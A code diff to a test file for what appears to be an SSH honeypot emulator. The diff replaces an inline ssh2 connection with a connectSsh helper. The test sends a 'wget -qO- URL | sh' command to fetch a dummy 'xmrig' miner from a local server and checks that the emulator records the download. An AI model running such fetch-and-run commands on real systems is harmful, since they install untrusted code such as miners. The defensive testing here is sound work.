@@ -12,7 +12,6 @@ import { createServer, type Server } from 'node:http'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import type { FetchResult } from '@decnet/core'
-import { Client } from 'ssh2'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import type { Fields } from '../src/framework/tcp.ts'
 import { type Downloader, MAX_DOWNLOADS_PER_SESSION } from '../src/protocols-text/shell/downloads.ts'
@@ -20,6 +19,7 @@ import { shellHost } from '../src/protocols-text/shell/persona.ts'
 import { createShell, type FakeShell, settle } from '../src/protocols-text/shell/shell.ts'
 import { startTestEmulator } from './helpers.ts'
 import { alpinePersona, debianPersona } from './shell-personas.ts'
+import { connectSsh } from './ssh-login.ts'
 
 const MINER = Buffer.from(`\x7fELF${'xmrig-test-payload '.repeat(500)}`)
 const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex')
@@ -226,17 +226,7 @@ describe('the ssh emulator with downloads', () => {
   })
 
   it('an exec channel (`ssh host "wget -qO- URL | sh"`) downloads, records the sample and ends cleanly', async () => {
-    const client = new Client()
-    await new Promise<void>((resolve, reject) => {
-      client.once('ready', resolve).on('error', reject)
-      client.connect({
-        host: ssh.host,
-        port: ssh.port,
-        username: 'root',
-        password: 'rootpw',
-        readyTimeout: 10_000,
-      })
-    })
+    const client = await connectSsh(ssh, 'root', 'rootpw')
     try {
       const code = await new Promise<number>((resolve, reject) =>
         client.exec(`wget -qO- ${base}/xmrig | sh`, (error, stream) => {
